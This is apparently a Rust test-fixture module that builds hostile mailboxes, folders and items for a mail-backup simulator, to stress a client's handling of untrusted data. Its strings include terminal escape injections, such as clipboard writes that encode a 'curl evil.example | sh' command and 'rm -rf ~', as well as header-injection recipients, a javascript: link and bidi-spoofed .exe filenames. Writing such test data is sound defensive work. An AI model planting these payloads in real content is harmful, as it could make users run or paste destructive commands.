//! Hostile data: two mailboxes appended to organization 0 (`contoso.onmicrosoft.com`), after the 50
//! generated ones, so the indices 0..49 (and every seeded item) stay what they were.
//!
//! - mailbox 50, [`HOSTILE_NAME`] (`hostile.data@contoso.com`): a plain name, hostile content;
//! - mailbox 51, [`HOSTILE_NAMED_NAME`] (`hostile.name@contoso.com`): a hostile display name (escape
//!   sequences, a bell, a bidi override, emoji) over the same hostile content.
//!
//! Both hold the folders of [`HOSTILE_FOLDERS`] with fixed items (the same for every seed):
//!
//! | folder (path) | items |
//! |---|---|
//! | `Inbox` | [`MAIL`]: escape sequences (clear screen, cursor home, OSC 52 clipboard write, OSC 0 title, OSC 8 link, DCS/APC/PM), bells, C1 controls (U+0085, U+009B, U+009D), bidi overrides (U+202E, U+2066..U+2069), mixed-direction text, combining marks, wide CJK and emoji (ZWJ, flags, skin tones), empty strings, absent fields, no itemClass, a 1 MiB subject, CR/LF/TAB, NUL/DEL, zero-width characters, 10,000 recipients, 1,000 attachments, extreme dates and sizes |
//! | `Calendar` | an appointment with 10,000 attendees, one ending before it starts (years 1 and 9999), one with nothing but its class |
//! | `Contacts` | a contact with every field hostile, a contact group with a hostile name, a contact of empty strings |
//! | `Tasks` | percentComplete 250 and -5, hostile owner |
//! | `Journal` | duration i32::MAX and -1, hostile entry type |
//! | `Notes` | a multi-line note with escape sequences |
//! | `Inbox/<ESC>[31mRed<ESC>[0m <OSC 0>folder <RLO>cod.exe` | hostile folder name, 2 messages |
//! | `Inbox/` (empty name) | 1 message |
//! | `会議 🎉 Ünïcödé Ω` | wide folder name, 1 message |
//! | `A folder with a very long name …` (300+ characters) | 1 message |
//!
//! Everything stays valid against the official schemas (`tests/hostile_data.rs` checks it): the spec
//! declares no item field nullable, so "nulls everywhere" means absent fields and empty strings.

use super::data::{Content as C, Data, FolderDef, Summary, fixed};
use super::ids::{ItemKey, MailboxKey};
use crate::api::models::{
    ApiDate, Appointment, Attachment, Contact, ContactGroup, Importance, Item, ItemData, Journal, Message, StickyNote,
    Task, TaskStatus,
};
use serde_json::{Map, Value};
use time::{Duration, OffsetDateTime, macros::datetime};

/// The mailbox with hostile content (organization 0, index 50).
pub const HOSTILE_MAILBOX: MailboxKey = MailboxKey { org: 0, mbx: 50 };
/// Its display name.
pub const HOSTILE_NAME: &str = "Hostile Data";
pub const HOSTILE_LOCAL: &str = "hostile.data";
/// The mailbox with a hostile display name (organization 0, index 51).
pub const HOSTILE_NAMED_MAILBOX: MailboxKey = MailboxKey { org: 0, mbx: 51 };
pub const HOSTILE_NAMED_NAME: &str = "\u{1b}[2J\u{1b}[H\u{1b}]0;pwned\u{7}Mallory \u{202E}nimdA\u{202C} 🎉\u{7}";
pub const HOSTILE_NAMED_LOCAL: &str = "hostile.name";

/// The subject of the 1 MiB item is at least this long (bytes).
pub const MEGABYTE_SUBJECT: usize = 1 << 20;
/// Attendees of the big appointment, recipients of the big message.
pub const CROWD: usize = 10_000;

const RED_FOLDER: &str = "\u{1b}[31mRed\u{1b}[0m \u{1b}]0;pwned\u{7}folder \u{202E}cod.exe";
const WIDE_FOLDER: &str = "会議 🎉 Ünïcödé Ω";
const LONG_FOLDER: &str = "A folder with a very long name that goes on and on well past any column width a terminal \
     would give it, because display names in Exchange can be long, and this one keeps going with more words so \
     that it is certainly wider than two hundred and fifty-six characters, which is the limit of folder names \
     in some older clients, and a few more to be sure";

/// The folders of the hostile mailboxes (item counts are exact: `lo == hi`).
pub const HOSTILE_FOLDERS: &[FolderDef] = &[
    fixed("Inbox", None, C::Mail, "Inbox", "None", MAIL.len() as u32),
    fixed("Calendar", None, C::Calendar, "None", "Appointment", 3),
    fixed("Contacts", None, C::Contacts, "None", "Contact", 3),
    fixed("Tasks", None, C::Tasks, "None", "Task", 2),
    fixed("Journal", None, C::Journal, "None", "Journal", 2),
    fixed("Notes", None, C::Notes, "None", "StickyNote", 1),
    fixed(RED_FOLDER, Some(0), C::Mail, "None", "None", 2),
    fixed("", Some(0), C::Mail, "None", "None", 1),
    fixed(WIDE_FOLDER, None, C::Mail, "None", "None", 1),
    fixed(LONG_FOLDER, None, C::Mail, "None", "None", 1),
];

/// The hostile messages of `Inbox`, by index: (what it tests, subject).
pub const MAIL: &[(&str, &str)] = &[
    ("clear screen, cursor home", "\u{1b}[2J\u{1b}[HYour screen was cleared"),
    (
        "OSC 52 clipboard write",
        "Clipboard \u{1b}]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\u{7}written",
    ),
    ("OSC 0 window title", "\u{1b}]0;pwned\u{7}Window title changed"),
    ("bells", "\u{7}\u{7}\u{7} Ring ring \u{7}"),
    ("C1 controls", "C1: NEL\u{85}CSI\u{9b}2J OSC\u{9d}0;pwned\u{9c} end"),
    ("bidi override", "Invoice \u{202E}fdp.exe"),
    (
        "mixed direction",
        "Re: שלום world مرحبا 123 – עברית English العربية 456",
    ),
    ("combining marks", "Ze\u{301}\u{301}\u{301}bra Z̴̧̛̗͎a̷͙̓l̸̢̛g̵̨̛o̶͚͋ e\u{301} vs é"),
    (
        "wide CJK and emoji",
        "会議のお知らせ 📅 👨‍👩‍👧‍👦 🏳️‍🌈 🇯🇵 テスト ＡＢＣ 한국어 👍🏽",
    ),
    ("empty strings", ""),
    ("every field absent", ""),
    ("no itemClass", ""),
    ("1 MiB subject", ""),
    ("CR, LF and TAB", "Line one\nLine two\r\n\tTabbed\rOverwritten"),
    ("NUL and DEL", "nul\u{0}byte del\u{7f}end"),
    (
        "zero-width characters",
        "\u{200B}\u{FEFF}\u{200D}invisible\u{2060}\u{200C}",
    ),
    (
        "OSC 8 hyperlink",
        "\u{1b}]8;;https://evil.example/\u{1b}\\Click here\u{1b}]8;;\u{1b}\\",
    ),
    ("10,000 recipients", "To everyone (10,000 recipients)"),
    ("1,000 attachments", "Here are 1,000 attachments"),
    (
        "DCS, APC and PM strings",
        "\u{1b}P1;1;1q#0;2;100;0;0#0~~~~\u{1b}\\sixel \u{1b}_apc\u{1b}\\ \u{1b}^pm\u{1b}\\ done",
    ),
    ("escape after a long run", ""),
    ("extreme dates", "Sent in year 1, received in year 9999"),
    (
        "noncharacters and replacement",
        "\u{FFFE}\u{FFFF}\u{10FFFF}\u{FFFD}\u{E0041}tag",
    ),
    ("only spaces", "     "),
    ("line and paragraph separators", "para\u{2028}graph\u{2029}end"),
    (
        "isolates",
        "\u{2066}left\u{2069} \u{2067}right\u{2069} \u{2068}first\u{2069} \u{202A}\u{202B}\u{202C}\u{202D}",
    ),
];

fn owner(data: &Data, mb: MailboxKey) -> String {
    data.mailbox(mb).map(|m| m.email.clone()).unwrap_or_default()
}

fn when(idx: u32) -> OffsetDateTime {
    super::data::LAST_BACKUP - Duration::hours(i64::from(idx) * 7 + 1)
}

fn crowd(domain: &str) -> String {
    (0..CROWD)
        .map(|i| format!("attendee{i:05}@{domain}"))
        .collect::<Vec<_>>()
        .join("; ")
}

fn hostile_attachments() -> Vec<Attachment> {
    vec![
        Attachment {
            name: Some("invoice_\u{202E}gpj.exe".into()),
            size_bytes: Some(12_345),
            size: None,
        },
        Attachment {
            name: Some("\u{1b}]52;c;cm0gLXJmIH4=\u{7}notes.txt".into()),
            size_bytes: Some(i64::MAX),
            size: None,
        },
        Attachment {
            name: Some("".into()),
            size_bytes: Some(-1),
            size: None,
        },
        Attachment {
            name: None,
            size_bytes: None,
            size: None,
        },
        Attachment {
            name: Some("報告書 📎 \u{1b}[5mblink\u{1b}[0m.docx".into()),
            size_bytes: Some(0),
            size: None,
        },
    ]
}

fn message(subject: Option<&str>, from: Option<String>, to: Option<String>, t: OffsetDateTime) -> Message {
    Message {
        from,
        to,
        cc: None,
        bcc: None,
        subject: subject.map(str::to_string),
        sent: Some(ApiDate::Utc(t - Duration::seconds(30))),
        received: Some(ApiDate::Utc(t)),
        reminder: Some(false),
        importance: Some(Importance::Normal),
        attachments: Vec::new(),
    }
}

fn mail(data: &Data, i: ItemKey) -> Option<(Option<String>, ItemData, Map<String, Value>)> {
    let me = owner(data, i.folder.mailbox);
    let t = when(i.idx);
    let evil = "\u{1b}[1;31mceo@contoso.com\u{1b}[0m".to_string();
    let (_, subject) = MAIL.get(i.idx as usize)?;
    let class = Some("IPM.Note".to_string());
    let mut m = message(Some(subject), Some(evil.clone()), Some(me.clone()), t);
    let mut extra = Map::new();
    match i.idx {
        1 => m.attachments = hostile_attachments(),
        2 => m.from = Some("\u{1b}]0;pwned\u{7}@evil.example".into()),
        5 => {
            m.from = Some("\u{2066}admin\u{2069}@contoso.com \u{202E}moc.live@".into());
            m.attachments = hostile_attachments();
        }
        6 => m.from = Some("דוד לוי <david@contoso.com>".into()),
        8 => m.from = Some("山田 太郎 🎌 <taro@contoso.com>".into()),
        9 => {
            m.from = Some(String::new());
            m.to = Some(String::new());
            m.cc = Some(String::new());
            m.bcc = Some(String::new());
            m.attachments = vec![Attachment {
                name: Some(String::new()),
                size_bytes: Some(0),
                size: None,
            }];
        }
        10 => return Some((class, ItemData::Message(Message::default()), extra)),
        11 => {
            extra.insert("subject".into(), Value::from("An item without itemClass \u{1b}[2J"));
            return Some((None, ItemData::Other, extra));
        }
        12 => {
            let unit = "Lorem ipsum dolor sit amet ✓ 会議 \u{202E}evil\u{202C} \u{1b}[7m ";
            let mut s = String::from("1 MiB subject: ");
            while s.len() < MEGABYTE_SUBJECT {
                s.push_str(unit);
            }
            m.subject = Some(s);
        }
        13 => m.to = Some(format!("{me}\n\rinjected@evil.example")),
        17 => m.to = Some(crowd("contoso.com")),
        18 => {
            let base = hostile_attachments();
            m.attachments = (0..1_000).map(|k| base[k % base.len()].clone()).collect();
        }
        20 => m.subject = Some(format!("{}\u{1b}[2J\u{1b}]0;late\u{7}", "a".repeat(300))),
        21 => {
            m.sent = Some(ApiDate::Utc(datetime!(0001-01-01 00:00:00 UTC)));
            m.received = Some(ApiDate::Utc(datetime!(9999-12-31 23:59:59.9999999 UTC)));
        }
        _ => {}
    }
    Some((class, ItemData::Message(m), extra))
}

/// The item at `i` of a hostile mailbox (`None` past a folder's end).
pub fn item(data: &Data, i: ItemKey) -> Option<Item> {
    let def = data.folder_def(i.folder)?;
    if i.idx >= def.hi() {
        return None;
    }
    let me = owner(data, i.folder.mailbox);
    let t = when(i.idx);
    let hostile = "\u{1b}[2J\u{1b}[H\u{7}\u{202E}";
    let (class, data_, extra): (Option<String>, ItemData, Map<String, Value>) = match i.folder.folder {
        0 => mail(data, i)?,
        1 => {
            let a = match i.idx {
                0 => Appointment {
                    subject: Some("All hands (10,000 attendees) \u{1b}]0;pwned\u{7}".into()),
                    organizer: Some("\u{1b}[31morganizer@contoso.com\u{1b}[0m".into()),
                    attendees: Some(crowd("contoso.com")),
                    start_time: Some(ApiDate::Utc(t)),
                    end_time: Some(ApiDate::Utc(t + Duration::hours(1))),
                    location: Some(format!("{hostile}Room \u{202E}lairotut")),
                    recurring: Some(true),
                    recurrence_pattern_format: Some("Every \u{1b}[2J day\u{85}".into()),
                    attachments: hostile_attachments(),
                },
                1 => Appointment {
                    subject: Some("Ends before it starts".into()),
                    organizer: Some(me.clone()),
                    attendees: Some(String::new()),
                    start_time: Some(ApiDate::Utc(datetime!(9999-12-31 23:00:00 UTC))),
                    end_time: Some(ApiDate::Utc(datetime!(0001-01-01 00:00:00 UTC))),
                    location: Some(String::new()),
                    recurring: Some(false),
                    recurrence_pattern_format: None,
                    attachments: Vec::new(),
                },
                _ => Appointment::default(),
            };
            (Some("IPM.Appointment".into()), ItemData::Appointment(a), Map::new())
        }
        2 => match i.idx {
            0 => {
                let h = |s: &str| Some(format!("{hostile}{s}\u{1b}]0;pwned\u{7}"));
                (
                    Some("IPM.Contact".into()),
                    ItemData::Contact(Contact {
                        full_name: h("Mallory \u{202E}yrollaM"),
                        display_as: h("Mallory (mallory@evil.example)"),
                        file_as: h("Mallory"),
                        email: h("mallory@evil.example"),
                        company: h("Evil Corp 😈"),
                        job_title: h("Chief \u{85}Officer"),
                        address: Some("Line 1\nLine 2\r\n\u{1b}[8mhidden\u{1b}[0m".into()),
                        business_phone: h("+1 555 0100"),
                        home_phone: Some("\u{7}".repeat(50)),
                        mobile: h("+44 20 7946 0000"),
                        fax: Some(String::new()),
                        im_address: h("mallory@evil.example"),
                        web_page: Some(
                            "javascript:alert(1) \u{1b}]8;;https://evil.example/\u{1b}\\x\u{1b}]8;;\u{1b}\\".into(),
                        ),
                    }),
                    Map::new(),
                )
            }
            1 => (
                Some("IPM.DistList".into()),
                ItemData::ContactGroup(ContactGroup {
                    name: Some("\u{1b}]0;pwned\u{7}Team \u{202E}live".into()),
                }),
                Map::new(),
            ),
            _ => (
                Some("IPM.Contact".into()),
                ItemData::Contact(Contact {
                    full_name: Some(String::new()),
                    display_as: Some(String::new()),
                    file_as: Some(String::new()),
                    email: Some(String::new()),
                    company: Some(String::new()),
                    job_title: Some(String::new()),
                    address: Some(String::new()),
                    business_phone: Some(String::new()),
                    home_phone: Some(String::new()),
                    mobile: Some(String::new()),
                    fax: Some(String::new()),
                    im_address: Some(String::new()),
                    web_page: Some(String::new()),
                }),
                Map::new(),
            ),
        },
        3 => (
            Some("IPM.Task".into()),
            ItemData::Task(Task {
                subject: Some(format!("{hostile}Overdone task")),
                status: Some(if i.idx == 0 {
                    TaskStatus::Completed
                } else {
                    TaskStatus::InProgress
                }),
                percent_complete: Some(if i.idx == 0 { 250.0 } else { -5.0 }),
                start_date: Some(ApiDate::Utc(t)),
                due_date: Some(ApiDate::Utc(t - Duration::days(400))),
                owner: Some(format!("\u{1b}[31m{me}\u{1b}[0m")),
            }),
            Map::new(),
        ),
        4 => (
            Some("IPM.Activity".into()),
            ItemData::Journal(Journal {
                subject: Some("Endless call \u{1b}[?25l(cursor hidden)".into()),
                entry_type: Some("\u{1b}]0;pwned\u{7}Phone call".into()),
                start_time: Some(ApiDate::Utc(t)),
                duration: Some(if i.idx == 0 { i64::from(i32::MAX) } else { -1 }),
                company: Some("\u{202E}proC liveE".into()),
                ..Default::default()
            }),
            Map::new(),
        ),
        5 => (
            Some("IPM.StickyNote".into()),
            ItemData::StickyNote(StickyNote {
                subject: Some("Note line 1\nline 2 \u{1b}[2J\nline 3 \u{1b}]52;c;ZXZpbA==\u{7}\n\n\n\nline 8".into()),
                date: Some(ApiDate::Utc(t)),
                ..Default::default()
            }),
            Map::new(),
        ),
        _ => {
            let subject = match (i.folder.folder, i.idx) {
                (6, 0) => "In a folder with a hostile name",
                (6, _) => "\u{1b}[2JAlso in it",
                (7, _) => "In a folder without a name",
                (8, _) => "広い文字のフォルダー 🎉",
                _ => "In a folder with a very long name",
            };
            (
                Some("IPM.Note".into()),
                ItemData::Message(message(
                    Some(subject),
                    Some("someone@contoso.com".into()),
                    Some(me.clone()),
                    t,
                )),
                Map::new(),
            )
        }
    };
    Some(Item {
        id: data.item_id(i),
        item_class: class,
        mailbox_id: None,
        data: data_,
        links: Default::default(),
        extra,
    })
}

/// The light view of a hostile item, from the item itself.
pub fn summary(data: &Data, i: ItemKey) -> Option<Summary> {
    let it = item(data, i)?;
    let (from, to) = match &it.data {
        ItemData::Message(m) => (m.from.clone(), m.to.clone()),
        ItemData::Appointment(a) => (a.organizer.clone(), a.attendees.clone()),
        ItemData::Discussion(d) => (d.from.clone(), None),
        _ => (None, None),
    };
    Some(Summary {
        class: it.item_class.clone().unwrap_or_default(),
        title: it.title().map(str::to_string),
        from,
        to,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sim::ids::FolderKey;

    #[test]
    fn every_hostile_item_exists_and_serialises() {
        let d = Data::new(42);
        for mb in [HOSTILE_MAILBOX, HOSTILE_NAMED_MAILBOX] {
            assert_eq!(d.folder_count(mb), HOSTILE_FOLDERS.len() as u16);
            for f in d.all_folders(mb) {
                let (live, deleted) = d.counts(f);
                assert_eq!(deleted, 0);
                assert!(live >= 1, "{}", d.folder_path(f));
                for idx in 0..live {
                    let k = ItemKey { folder: f, idx };
                    let it = d.item(k).unwrap_or_else(|| panic!("{} #{idx}", d.folder_path(f)));
                    assert_eq!(d.parse_item(&it.id), Some(k));
                    let j = serde_json::to_string(&it).unwrap();
                    let back: Item = serde_json::from_str(&j).unwrap();
                    assert_eq!(back, it, "round trip of {} #{idx}", d.folder_path(f));
                    assert!(d.summary(k).is_some());
                }
                assert!(d.item(ItemKey { folder: f, idx: live }).is_none());
            }
        }
        let inbox = FolderKey {
            mailbox: HOSTILE_MAILBOX,
            folder: 0,
        };
        let big = d.item(ItemKey { folder: inbox, idx: 12 }).unwrap();
        assert!(big.title().unwrap().len() >= MEGABYTE_SUBJECT);
        let crowd = d.item(ItemKey { folder: inbox, idx: 17 }).unwrap();
        let ItemData::Message(m) = &crowd.data else { panic!() };
        assert_eq!(m.to.as_deref().unwrap().split("; ").count(), CROWD);
        let cal = FolderKey {
            mailbox: HOSTILE_MAILBOX,
            folder: 1,
        };
        let ItemData::Appointment(a) = d.item(ItemKey { folder: cal, idx: 0 }).unwrap().data else {
            panic!()
        };
        assert_eq!(a.attendees.unwrap().split("; ").count(), CROWD);
    }

    #[test]
    fn the_hostile_mailboxes_are_appended() {
        let d = Data::new(42);
        let mbs = &d.orgs[0].mailboxes;
        assert_eq!(mbs.len(), 52);
        assert_eq!(mbs[50].name, HOSTILE_NAME);
        assert_eq!(mbs[50].email, "hostile.data@contoso.com");
        assert_eq!(mbs[51].name, HOSTILE_NAMED_NAME);
        assert_eq!(d.orgs[1].mailboxes.len(), 50);
    }
}
